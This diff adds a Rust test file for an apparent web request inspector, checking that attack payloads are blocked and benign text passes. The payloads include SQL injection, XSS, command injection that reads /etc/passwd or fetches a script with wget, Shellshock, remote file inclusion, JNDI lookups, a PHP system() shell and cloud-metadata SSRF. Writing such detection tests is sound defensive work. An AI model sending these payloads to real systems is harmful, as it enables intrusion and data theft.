@@ -1,0 +1,152 @@
+//! Per-class behaviour of the whole pipeline: an attack that must block and
+//! a near miss that must not.
+
+use super::*;
+
+fn query(q: &str) -> Inspection {
+    inspect(&RequestView { query: Some(q), ..RequestView::default() })
+}
+
+fn json(body: &str) -> Inspection {
+    inspect(&RequestView {
+        content_type: Some("application/json"),
+        body: body.as_bytes(),
+        ..RequestView::default()
+    })
+}
+
+fn text(body: &str) -> Inspection {
+    inspect(&RequestView {
+        content_type: Some("text/plain"),
+        body: body.as_bytes(),
+        ..RequestView::default()
+    })
+}
+
+#[track_caller]
+fn blocks(ins: Inspection, class: Class) {
+    assert!(ins.blocked(DEFAULT_THRESHOLD), "not blocked: {ins:?}");
+    assert!(ins.classes().contains(&class), "no {} finding: {ins:?}", class.label());
+}
+
+#[track_caller]
+fn passes(ins: Inspection) {
+    assert!(!ins.blocked(DEFAULT_THRESHOLD), "blocked: {ins:?}");
+}
+
+#[test]
+fn sqli() {
+    blocks(query("id=1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users--"), Class::Sqli);
+    blocks(query("id=1'+or+'1'='1"), Class::Sqli);
+    blocks(json(r#"{"q":"x'; WAITFOR DELAY '0:0:5'--"}"#), Class::Sqli);
+    blocks(query("u[$ne]=1"), Class::Sqli);
+    passes(text("Please select the union reps from the list and drop them a note; order by Friday."));
+    passes(json(r#"{"name":"O'Brien","note":"it's 'fine' or not"}"#));
+}
+
+#[test]
+fn xss() {
+    blocks(query("q=%3Cscript%3Ealert(1)%3C/script%3E"), Class::Xss);
+    blocks(json(r#"{"bio":"<img src=x onerror=alert(1)>"}"#), Class::Xss);
+    blocks(query("u=jav%26%23x09%3Bascript:alert(1)"), Class::Xss);
+    blocks(text("&lt;svg/onload=alert(document.cookie)&gt;"), Class::Xss);
+    passes(text("I wrote a script in JavaScript and the onboarding went well; 3 < 4 > 2."));
+}
+
+#[test]
+fn rce() {
+    blocks(query("host=8.8.8.8;cat%20/etc/passwd"), Class::Rce);
+    blocks(query("f=a|wget%20http://x/s.sh"), Class::Rce);
+    blocks(query("x=$(whoami)"), Class::Rce);
+    blocks(query("x=;c'a't+/e??/p*d"), Class::Rce);
+    blocks(
+        inspect(&RequestView {
+            headers: &[("user-agent", "() { :;}; /bin/bash -c id")],
+            ..Default::default()
+        }),
+        Class::Rce,
+    );
+    passes(text("Meeting at 10; time to find the root cause, then cut a release; more later."));
+    passes(query("uname=john+doe&cmd=status"));
+}
+
+#[test]
+fn lfi_and_rfi() {
+    blocks(query("file=..%2F..%2F..%2Fetc%2Fpasswd"), Class::Lfi);
+    blocks(query("file=%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini"), Class::Lfi);
+    blocks(inspect(&RequestView { path: Some("/.git/config"), ..Default::default() }), Class::Lfi);
+    blocks(query("page=http://203.0.113.9/shell.txt?"), Class::Rfi);
+    passes(text("logs are in /var/log/app.log and C:\\ProgramData\\app\\log.txt, see ../README"));
+    passes(inspect(&RequestView { path: Some("/v1/ingest/events"), ..Default::default() }));
+}
+
+#[test]
+fn php() {
+    blocks(query("x=%3C%3Fphp%20system($_GET['c']);%20?%3E"), Class::Php);
+    blocks(json(r#"{"d":"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"}"#), Class::Php);
+    blocks(query("f=php://filter/convert.base64-encode/resource=index"), Class::Php);
+    passes(text("Our site runs on PHP; call the helper with a few args (yep)."));
+}
+
+#[test]
+fn java_and_templates() {
+    blocks(
+        inspect(&RequestView {
+            headers: &[("user-agent", "${jndi:ldap://x.example/a}")],
+            ..Default::default()
+        }),
+        Class::Java,
+    );
+    blocks(query("x=%24%7B%24%7Blower:j%7Dndi:ldap://e/a%7D"), Class::Java);
+    blocks(json(r#"{"p":"java.lang.Runtime"}"#), Class::Java);
+    blocks(text("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), Class::Java);
+    blocks(query("name={{7*7}}"), Class::Template);
+    blocks(query("n={{''.__class__.__mro__[1].__subclasses__()}}"), Class::Template);
+    passes(json(r#"{"msg":"java.lang.NullPointerException at Foo.bar","greeting":"Hello {{name}}"}"#));
+}
+
+#[test]
+fn protocol_and_generic() {
+    blocks(query("a=x%0d%0aSet-Cookie:%20s=1"), Class::Protocol);
+    blocks(query("a=x%00.png"), Class::Protocol);
+    blocks(query("u=http://169.254.169.254/latest/meta-data"), Class::Generic);
+    blocks(json(r#"{"__proto__":{"admin":true}}"#), Class::Generic);
+    passes(text("Line one.\nLine two: more text.\n"));
+}
+
+#[test]
+fn findings_count_each_rule_once() {
+    let ins = query("a=<script>&b=<script>&c=<script>");
+    let mut ids = ins.rule_ids();
+    let n = ids.len();
+    ids.dedup();
+    assert_eq!(n, ids.len());
+    assert_eq!(ins.score, ins.findings.iter().map(|f| f.score).sum::<u32>());
+    assert!(ins.findings.iter().all(|f| f.location == Location::Query));
+}
+
+#[test]
+fn secrets_are_not_inspected() {
+    let headers =
+        [("authorization", "Basic ' or 1=1--"), ("x-api-key", "<script>"), ("x-forwarded-for", "../../")];
+    assert_eq!(inspect(&RequestView { headers: &headers, ..Default::default() }).score, 0);
+}
+
+#[test]
+fn labels_are_bounded() {
+    for c in Class::ALL {
+        assert!(!c.label().is_empty());
+    }
+    assert_eq!(Location::Header.label(), "header");
+}
+
+#[test]
+fn hostile_inputs_do_not_panic() {
+    for data in
+        [&b""[..], b"\n\n\n", b"%", b"&#", b"\\u{", b"\xff\xfe\xc0", b"application/json\n\n\n[[[[[[[["]
+    {
+        fuzz_check(data);
+    }
+    let big = "%25".repeat(400_000);
+    fuzz_check(format!("text/plain\n{big}\n{big}\n{big}").as_bytes());
+}
